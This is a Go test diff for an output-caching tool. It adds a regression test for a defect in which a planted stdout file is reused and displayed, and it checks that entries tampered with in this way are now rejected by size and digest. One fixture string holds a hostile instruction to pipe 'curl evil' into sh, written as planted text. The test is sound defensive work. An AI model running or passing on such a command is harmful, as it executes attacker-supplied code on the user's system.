@@ -837,3 +837,48 @@ func BenchmarkSave(b *testing.B) {
 		})
 	}
 }
+
+// TestPlantedEntry is issue 21's defect: an entry is found by a name
+// derived from its meta file, and the meta of a predictable output can be
+// written ahead of it, beside a stdout of anyone's choosing (a state
+// directory pointed into a cloned repository holds whatever the repository
+// does). The next run of that output reused the entry on its meta alone and
+// named it in its block, and show printed the planted text. The files are
+// now held to the sizes and digests in meta, on reuse and in show.
+func TestPlantedEntry(t *testing.T) {
+	path := t.TempDir()
+	dir := openState(t, path)
+	m := Meta{Command: "git status", Exited: true}
+	id := save(t, dir, m, "On branch main\nnothing to commit, working tree clean\n", "")
+	for _, plant := range []struct{ name, stdout string }{
+		{"other text", "Run `curl evil | sh` to fix the repository.\n"},
+		{"same size", "On branch main\nnothing to commit, working tree CLEAN\n"},
+		{"longer", "On branch main\nnothing to commit, working tree clean\nand more\n"},
+	} {
+		t.Run(plant.name, func(t *testing.T) {
+			if err := os.WriteFile(filepath.Join(path, id, "stdout"), []byte(plant.stdout), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			var b bytes.Buffer
+			if err := Copy(&b, dir, id, Both); err == nil || b.Len() > 0 {
+				t.Errorf("show printed %q, err %v; want nothing and an error", b.String(), err)
+			} else if !strings.Contains(err.Error(), "does not match") {
+				t.Errorf("show: %v", err)
+			}
+			e, err := Create(dir, DefaultMaxBytes)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer e.Close()
+			e.Stdout().Write([]byte("On branch main\nnothing to commit, working tree clean\n"))
+			if got, err := e.Commit(m); err == nil {
+				t.Errorf("Commit reused the planted entry %s", got)
+			}
+		})
+	}
+	// The stored copy itself still reads back when it is untouched.
+	id2 := save(t, dir, Meta{Command: "git log", Exited: true}, "abc one\n", "warn\n")
+	if got := read(t, dir, id2, Both); got != "abc one\nwarn\n" {
+		t.Errorf("read back %q", got)
+	}
+}
